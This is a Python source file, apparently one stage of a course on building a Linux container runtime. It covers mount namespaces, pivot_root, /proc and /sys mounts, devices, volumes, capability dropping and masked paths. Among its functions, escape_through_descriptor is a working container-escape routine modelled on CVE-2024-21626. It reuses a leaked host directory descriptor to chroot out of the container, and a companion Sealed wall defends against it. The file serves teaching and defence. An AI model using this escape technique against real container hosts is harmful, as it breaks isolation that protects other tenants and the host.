"""Stage 3: the mount namespace.

chroot changed which directory a name starts from, and left the whole tree of mounts around it: that is how task 1.4
got out, and why `ps` behind stage 2 still showed the machine. A mount namespace is a copy of the table of mounts
itself. In our own copy we can hang a new root, throw the old one away, and then there is no outside to go back to.

After this stage a container has a file system that is its own: root, /proc, /sys, /dev, and the volumes it was
given. It also stays up: what could take it down again is dropped before the program starts.
"""

import os
import stat
from collections.abc import Sequence
from dataclasses import dataclass

from thinwalls import linux
from thinwalls.wall import Wall

from .stage01_chroot import check_rootfs

# /dev of a container: what is bound from the machine's, and the links, as the OCI runtime specification lists them
# (config-linux.md, "Default Devices", and runtime-linux.md on /dev/fd and the others).
DEVICES = ("null", "zero", "full", "random", "urandom", "tty")
LINKS = {
    "fd": "/proc/self/fd",
    "stdin": "/proc/self/fd/0",
    "stdout": "/proc/self/fd/1",
    "stderr": "/proc/self/fd/2",
    "ptmx": "pts/ptmx",
}

# What shows or changes more of the machine than a container needs: the defaults of container engines.
MASKED = (
    "/proc/acpi",
    "/proc/asound",
    "/proc/interrupts",
    "/proc/kcore",
    "/proc/keys",
    "/proc/latency_stats",
    "/proc/sched_debug",
    "/proc/scsi",
    "/proc/timer_list",
    "/proc/timer_stats",
    "/sys/devices/virtual/powercap",
    "/sys/firmware",
)
READ_ONLY = ("/proc/bus", "/proc/fs", "/proc/irq", "/proc/sys", "/proc/sysrq-trigger")

_NO_SURPRISES = linux.MS_NOSUID | linux.MS_NODEV | linux.MS_NOEXEC


@dataclass(frozen=True)
class Volume:
    """A directory or file of the machine that the container has too.

    source: its path outside. target: an absolute path inside. readonly: the container may not write to it.
    """

    source: str
    target: str
    readonly: bool = False


class Filesystem(Wall):
    """A mount namespace whose root is ``rootfs``, with /proc, /sys, /dev and volumes."""

    flags = linux.CLONE_NEWNS  # task 3.1

    def __init__(self, rootfs: str, volumes: Sequence[Volume] = ()):
        self.rootfs = check_rootfs(rootfs)
        self.volumes = tuple(volumes)

    def inside(self) -> None:
        """Build the container's file system, and move in.

        Each task of this stage adds its call, and this is their order: keep_mounts_private (3.1); the bind mount of
        rootfs onto itself (3.2); mount_kernel_files (3.3); mount_devices (3.4); mount_volumes (3.5); mask_paths (3.8);
        enter_root (3.2).
        """
        keep_mounts_private()  # task 3.1
        linux.mount(self.rootfs, self.rootfs, None, linux.MS_BIND | linux.MS_REC)  # task 3.2
        mount_kernel_files(self.rootfs)  # task 3.3
        mount_devices(self.rootfs)  # task 3.4
        mount_volumes(self.rootfs, self.volumes)  # task 3.5
        mask_paths(self.rootfs)  # task 3.8
        enter_root(self.rootfs)  # task 3.2


class Caps(Wall):
    """Walls that stay up: the program has no way to get the power back that put them up."""

    def inside(self) -> None:
        """Task 3.6: take CAP_SYS_ADMIN out of the bounding set, and set no_new_privs.

        Whoever has CAP_SYS_ADMIN may mount and remount. What is not in the bounding set is gone at the next exec,
        also for uid 0; and with no_new_privs no set-uid program, nor file capabilities, gives any power at all.

        Read: capabilities(7) on the bounding set and "Transformation of capabilities during execve()",
        PR_CAPBSET_DROP and PR_SET_NO_NEW_PRIVS in prctl(2), linux.prctl, linux.CAP_SYS_ADMIN.
        """
        linux.prctl(linux.PR_CAPBSET_DROP, linux.CAP_SYS_ADMIN)
        linux.prctl(linux.PR_SET_NO_NEW_PRIVS, 1)


class Sealed(Wall):
    """No directory of the machine is left open in the child when the program's own words begin to count."""

    def inside(self) -> None:
        """Task 3.7: close every descriptor of the calling process that is a directory.

        furnish() of stage 0 marks descriptors to be closed by exec; but before that it changes to the working
        directory that the program asked for, and an image may ask for "/proc/self/fd/7". This was CVE-2024-21626.
        Other descriptors stay open: one of them carries launch()'s error reports.

        Read: /proc/PID/fd in proc(5), fstat(2), os.listdir and stat.S_ISDIR.
        """
        for name in os.listdir("/proc/self/fd"):
            try:
                if stat.S_ISDIR(os.fstat(int(name)).st_mode):
                    os.close(int(name))
            except OSError:
                continue  # the descriptor that listdir itself was reading


def keep_mounts_private() -> None:
    """Task 3.1: see to it that no mount made from here on, in the new namespace, shows up in another.

    A copied mount table is not alone: systemd makes all mounts shared, and a shared mount passes on what is
    mounted below it to its copies in other namespaces. Filesystem needs ``flags`` for the namespace, too.

    Read: mount_namespaces(7), "SHARED SUBTREES"; mount(2) on MS_PRIVATE and MS_REC; linux.mount.
    """
    linux.mount(None, "/", None, linux.MS_REC | linux.MS_PRIVATE)


def enter_root(rootfs: str) -> None:
    """Task 3.2: make the mount at ``rootfs`` the root of this mount namespace, and detach the old root with all below it.

    Afterwards the working directory is "/", and the namespace's table has nothing of the machine's in it. rootfs
    has to be a mount point: Filesystem.inside() must bind it onto itself, with all that is mounted in it already
    (MS_REC), before it mounts anything there.

    Read: pivot_root(2), the notes on pivot_root(".", ".") above all; linux.pivot_root, linux.umount, MNT_DETACH.
    """
    os.chdir(rootfs)
    linux.pivot_root(".", ".")
    # Old and new root are now stacked in one place: what "." reaches by umount is the one on top, the old.
    linux.umount(".", linux.MNT_DETACH)
    os.chdir("/")


def mount_kernel_files(rootfs: str) -> None:
    """Task 3.3: mount a proc at /proc of the rootfs, and a read-only sysfs at /sys. Both: no set-uid, devices, programs.

    The proc shows the PID namespace of the process that mounts it. Both must be mounted while the old root is still
    there: in a user namespace the kernel allows a new proc or sysfs only where a whole one can be seen already. The
    rootfs is somebody else's, its /proc may be a link to anywhere: linux.mount_in_root() never follows one outside.

    Read: proc(5), sysfs(5), mount(2) on MS_NOSUID, MS_NODEV, MS_NOEXEC and MS_RDONLY; linux.mount_in_root.
    """
    linux.mount_in_root("proc", rootfs, "/proc", "proc", _NO_SURPRISES)
    linux.mount_in_root("sysfs", rootfs, "/sys", "sysfs", _NO_SURPRISES | linux.MS_RDONLY)


def mount_devices(rootfs: str) -> None:
    """Task 3.4: give the rootfs a /dev of its own, on a tmpfs that only its owner may write to (mode 755).

    In it: each of DEVICES, which is the machine's own file bound there (who is not uid 0 of the machine may not make
    device files, mknod(2)); each of LINKS, a symbolic link; pts, a devpts of its own whose ptmx anybody may open; shm, a
    tmpfs that anybody may write to, as to /tmp (mode 1777); mqueue, of type mqueue. The tmpfs of /dev and pts honour no
    set-uid programs, shm and mqueue neither these nor device files.

    Read: linux.mount_in_root; tmpfs(5), option mode; devpts in the kernel's documentation
    (filesystems/devpts), options newinstance and ptmxmode=0666; mq_overview(7); linux.open_in_root and the dir_fd of
    os.symlink.
    """
    linux.mount_in_root("dev", rootfs, "/dev", "tmpfs", linux.MS_NOSUID | linux.MS_NOEXEC, "mode=755,size=64k")
    for name in DEVICES:
        linux.mount_in_root(f"/dev/{name}", rootfs, f"/dev/{name}", None, linux.MS_BIND)
    pts = "newinstance,ptmxmode=0666,mode=620"
    linux.mount_in_root("devpts", rootfs, "/dev/pts", "devpts", linux.MS_NOSUID | linux.MS_NOEXEC, pts)
    linux.mount_in_root("shm", rootfs, "/dev/shm", "tmpfs", _NO_SURPRISES, "mode=1777,size=64m")
    linux.mount_in_root("mqueue", rootfs, "/dev/mqueue", "mqueue", _NO_SURPRISES)
    dev = linux.open_in_root(rootfs, "/dev", os.O_PATH)
    for name, target in LINKS.items():
        os.symlink(target, name, dir_fd=dev)
    os.close(dev)


def mount_volumes(rootfs: str, volumes: Sequence[Volume]) -> None:
    """Task 3.5: bind each volume's source to its target in the rootfs; the read-only ones read-only, with all below.

    A target that is missing is made, and none leads out of the rootfs, whatever links an image has put there. Raises
    the OSError of what fails, such as FileNotFoundError for a source that is not there.

    A mount's flags like nosuid may be locked, and a remount that forgets them is refused with EPERM:
    linux.mount_setattr() adds one flag and leaves the others. It takes a path, and the path has to be found inside the
    rootfs too: open it with linux.open_in_root() once the volume is mounted, and use /proc/self/fd/NUMBER.

    Read: mount(2) on MS_BIND and MS_REC, mount_setattr(2), openat2(2) on RESOLVE_IN_ROOT.
    """
    for volume in volumes:
        linux.mount_in_root(
            os.path.realpath(volume.source, strict=True), rootfs, volume.target, None, linux.MS_BIND | linux.MS_REC
        )
        if volume.readonly:
            mounted = linux.open_in_root(rootfs, volume.target, os.O_PATH)
            linux.mount_setattr(f"/proc/self/fd/{mounted}", linux.MOUNT_ATTR_RDONLY, recursive=True)
            os.close(mounted)


def escape_through_descriptor() -> None:
    """Task 3.7: the attack. Called inside a container of stages 2 and 3, as uid 0, before exec: leave it.

    Somewhere among this process's descriptors the runtime has left a directory of the machine open. When the call
    returns, the calling process has that directory as its root and working directory. Raises FileNotFoundError where no
    such descriptor is to be found. (A directory that is inside the container does not count.)

    Read: fchdir(2), chroot(2), /proc/PID/fd in proc(5); getcwd(3) on directories that cannot be reached from the root,
    for which Python's os.getcwd() raises FileNotFoundError.
    """
    for name in os.listdir("/proc/self/fd"):
        try:
            os.fchdir(int(name))
        except OSError:
            continue  # no directory
        try:
            os.getcwd()  # a directory below our root has a name
        except FileNotFoundError:
            os.chroot(".")
            return
    raise FileNotFoundError("No descriptor leads outside")


def mask_paths(rootfs: str) -> None:
    """Task 3.8 (bonus): hide MASKED and protect READ_ONLY, which are paths inside; called before enter_root().

    Of MASKED, a file is hidden by binding /dev/null over it, a directory by an empty read-only tmpfs.
    Each of READ_ONLY is bound onto itself and made read-only. A path that this kernel does not have is left out.

    Read: linux.open_in_root, mount(2) on MS_BIND, linux.mount_setattr; "maskedPaths" and "readonlyPaths" in the OCI runtime
    specification, config-linux.md.
    """
    for path in (*MASKED, *READ_ONLY):
        try:
            found = linux.open_in_root(rootfs, path, os.O_PATH)
        except FileNotFoundError:
            continue
        here = f"/proc/self/fd/{found}"
        if path in READ_ONLY:
            linux.mount(here, here, None, linux.MS_BIND)
            os.close(found)
            found = linux.open_in_root(rootfs, path, os.O_PATH)  # the new mount, where the old was what lies below it
            linux.mount_setattr(f"/proc/self/fd/{found}", linux.MOUNT_ATTR_RDONLY)
        elif stat.S_ISDIR(os.fstat(found).st_mode):
            linux.mount("masked", here, "tmpfs", _NO_SURPRISES | linux.MS_RDONLY)
        else:
            linux.mount("/dev/null", here, None, linux.MS_BIND)
        os.close(found)
